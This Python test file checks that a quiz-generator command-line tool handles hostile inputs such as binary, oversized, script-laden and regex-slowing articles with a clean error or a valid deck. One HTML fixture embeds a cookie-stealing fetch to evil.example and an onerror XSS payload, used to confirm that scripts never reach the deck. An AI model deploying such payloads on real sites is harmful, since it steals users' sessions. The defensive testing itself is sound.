"""Hostile articles through `quizapp generate` (the command's own entry point, as a user runs it): each ends in a
deck or in one clear `error:` line naming the file, never a traceback, and in bounded time and size."""

from __future__ import annotations

import random
import sys
from pathlib import Path

import pytest

from quizapp import cli
from quizapp.deck.yaml_io import load_deck
from quizapp.ingest import formats
from quizapp.questions.select import MAX_DEFAULT_CARDS


def generate(monkeypatch, capsys, article: Path, tmp_path: Path) -> tuple[int, str, Path]:
    """Run ``quizapp generate ARTICLE -o deck.yaml`` through cli.main; its exit status, stderr and the deck path."""
    deck = tmp_path / "deck.yaml"
    monkeypatch.setattr(
        sys, "argv", ["quizapp", "generate", str(article), "-o", str(deck), "--default-date", "2024-05-01"]
    )
    try:
        cli.main()
        status = 0
    except SystemExit as exit_:
        status = exit_.code if isinstance(exit_.code, int) else 1
    return status, capsys.readouterr().err, deck


def assert_refused_clearly(status: int, err: str, article: Path, *wanted: str) -> None:
    assert status == 1
    assert "Traceback" not in err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith(f"error: {article}: "), err
    for text in wanted:
        assert text in lines[0]


def assert_deck_or_clear_refusal(status: int, err: str, deck: Path, article: Path) -> None:
    assert "Traceback" not in err
    if status == 0:
        cards = load_deck(deck).cards
        assert 1 <= len(cards) <= MAX_DEFAULT_CARDS
    else:
        assert status == 1 and err.startswith("error: ") and str(article) in err, err


def test_an_empty_article(monkeypatch, capsys, tmp_path):
    article = tmp_path / "empty.txt"
    article.write_text("  \n\n \n")
    status, err, deck = generate(monkeypatch, capsys, article, tmp_path)
    assert_refused_clearly(status, err, article, "empty")
    assert not deck.exists()


def test_a_binary_file(monkeypatch, capsys, tmp_path):
    article = tmp_path / "photo.txt"
    article.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(random.Random(1).randrange(256) for _ in range(40_000)))
    status, err, deck = generate(monkeypatch, capsys, article, tmp_path)
    assert_refused_clearly(status, err, article, "binary")
    assert not deck.exists()


def test_a_20_mb_article_is_refused_with_the_limit_stated(monkeypatch, capsys, tmp_path):
    article = tmp_path / "book.txt"
    line = b"The committee met again on Tuesday and agreed to meet again the following week.\n"
    article.write_bytes(line * (20_000_000 // len(line) + 1))
    status, err, deck = generate(monkeypatch, capsys, article, tmp_path)
    limit = f"at most {formats.MAX_ARTICLE_BYTES / 1_000_000:g} MB"
    assert_refused_clearly(status, err, article, "is 20.0 MB", limit)
    assert not deck.exists()


def test_the_size_limit_holds_for_standard_input_too(monkeypatch, capsys, tmp_path):
    import io

    monkeypatch.setattr(formats, "MAX_ARTICLE_BYTES", 100_000)
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"Words and more words. " * 10_000)))
    status, err, _deck = generate(monkeypatch, capsys, Path("-"), tmp_path)
    assert_refused_clearly(status, err, Path("-"), "is over the limit", "at most 0.1 MB")


def test_a_non_english_article(monkeypatch, capsys, tmp_path):
    article = tmp_path / "uutiset.txt"
    article.write_text(
        "Kaupunginvaltuusto hyväksyi tiistaina uuden sataman talousarvion pitkän keskustelun jälkeen.\n\n"
        "Pormestari Liisa Korhonen sanoi, että työt alkavat keväällä 2025 ja kestävät kolme vuotta.\n\n"
        "港口管理局周一在新港开设了一个新的渡轮码头。市长说，这个项目花了三年时间。\n\n"
        "Городской совет утвердил бюджет нового порта во вторник после долгих споров.\n",
        encoding="utf-8",
    )
    status, err, deck = generate(monkeypatch, capsys, article, tmp_path)
    assert_deck_or_clear_refusal(status, err, deck, article)


def test_html_with_scripts_gives_no_question_about_the_scripts(monkeypatch, capsys, tmp_path):
    article = tmp_path / "page.html"
    script = "document.cookie = 'stolen'; fetch('https://evil.example/?c=' + document.cookie); alert('Mallory Tower');"
    article.write_text(
        "<!doctype html><html><head><title>Harbor opens</title><script>" + script + "</script></head><body>"
        "<script>" + script + "</script><noscript>Enable JavaScript to read Mallory Tower news.</noscript>"
        "<article><h1>New ferry terminal opens in Port Alder</h1>"
        "<p>The Harbor Authority of Norland opened a new ferry terminal in Port Alder on Monday, 3 March 2025.</p>"
        "<p>Mayor Helena Brandt cut the ribbon in front of a crowd of 2,000 residents.</p>"
        "<p>The terminal cost 48 million dollars and took three years to build.</p>"
        "<p>Engineers from Lindqvist Group designed the new pier, which opened in 2024.</p>"
        "<script>" + script + "</script></article><img src=x onerror=\"alert('Mallory Tower')\"></body></html>",
        encoding="utf-8",
    )
    status, err, deck = generate(monkeypatch, capsys, article, tmp_path)
    assert_deck_or_clear_refusal(status, err, deck, article)
    assert status == 0, err  # the page has an article in it
    written = deck.read_text(encoding="utf-8")
    for leaked in ("cookie", "fetch(", "evil.example", "Mallory", "alert", "JavaScript"):
        assert leaked not in written


@pytest.mark.parametrize("shape", ["one line", "lines"])
def test_an_article_without_sentence_ends(monkeypatch, capsys, tmp_path, shape):
    rng = random.Random(5)
    words = [
        "harbor",
        "council",
        "ferry",
        "Bergen",
        "budget",
        "voted",
        "pier",
        "mayor",
        "Brandt",
        "terminal",
        "in",
        "the",
        "of",
        "and",
        "million",
        "2024",
        "residents",
        "Lindqvist",
        "opened",
        "Monday",
    ]
    lines = [" ".join(rng.choices(words, k=rng.randint(8, 30))) for _ in range(300)]
    article = tmp_path / "run-on.txt"
    article.write_text((" " if shape == "one line" else "\n").join(lines), encoding="utf-8")
    status, err, deck = generate(monkeypatch, capsys, article, tmp_path)
    assert_deck_or_clear_refusal(status, err, deck, article)


def test_a_pasted_blob_without_spaces(monkeypatch, capsys, tmp_path):
    """A long run of letters (base64, a minified script) once took minutes in the e-mail pattern of cleaning."""
    rng = random.Random(3)
    blob = "".join(rng.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", k=200_000))
    article = tmp_path / "blob.txt"
    article.write_text(
        "The Harbor Authority of Norland opened a new ferry terminal in Port Alder on Monday.\n\n"
        f"{blob}\n\nMayor Helena Brandt cut the ribbon in front of 2,000 residents in 2024.\n",
        encoding="utf-8",
    )
    status, err, deck = generate(monkeypatch, capsys, article, tmp_path)
    assert_deck_or_clear_refusal(status, err, deck, article)
    if status == 0:
        assert blob[:40] not in deck.read_text(encoding="utf-8")


def test_markdown_with_unclosed_brackets(monkeypatch, capsys, tmp_path):
    """Unclosed "![a](" repeated along one line once took minutes in the Markdown link patterns."""
    article = tmp_path / "notes.md"
    article.write_text(
        "---\ntitle: Harbor notes\n---\n\n"
        "The Harbor Authority of Norland opened a new ferry terminal in Port Alder on Monday.\n\n"
        + "![a](<b [c]("
        * 20_000
        + "\n\n"
        "Mayor Helena Brandt cut the ribbon in front of 2,000 residents in 2024.\n",
        encoding="utf-8",
    )
    status, err, deck = generate(monkeypatch, capsys, article, tmp_path)
    assert_deck_or_clear_refusal(status, err, deck, article)
